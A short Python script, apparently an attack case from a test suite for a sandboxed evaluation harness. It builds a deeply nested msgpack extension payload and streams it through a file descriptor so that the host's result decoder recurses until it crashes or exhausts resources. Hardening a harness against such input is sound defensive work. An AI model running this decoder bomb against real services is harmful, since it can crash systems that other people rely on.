"""Class: front: results that are bombs. Source: own find. Escape: tuples in tuples, each an
extension that is decoded anew. Teeth: none, there is no channel here.
Limits: timeout_s=5
"""

import os
import struct
import time

import msgspec


def _nested(depth):
    body = b"\x90"
    for _ in range(depth):
        inner = b"\x91" + body
        body = b"\xc9" + struct.pack(">I", len(inner)) + b"\x03" + inner
        if len(body) > 3 << 20:
            break
    return body


def write(body):
    rest = struct.pack("<I", len(body)) + body
    while rest:
        rest = rest[os.write(3, rest) :]


def send(kind, **fields):
    write(msgspec.msgpack.encode({"type": kind} | fields))


def piece(data, total):
    rest = struct.pack("<IQ", 1 << 31 | len(data), total) + data
    while rest:
        rest = rest[os.write(3, rest) :]


def attack(model, tokenizer, scene):
    result = _nested(4000)
    for start in range(0, len(result), 1 << 20):
        piece(result[start : start + (1 << 20)], len(result))
    send("Returned", cpu_s=0.0)
    time.sleep(20)
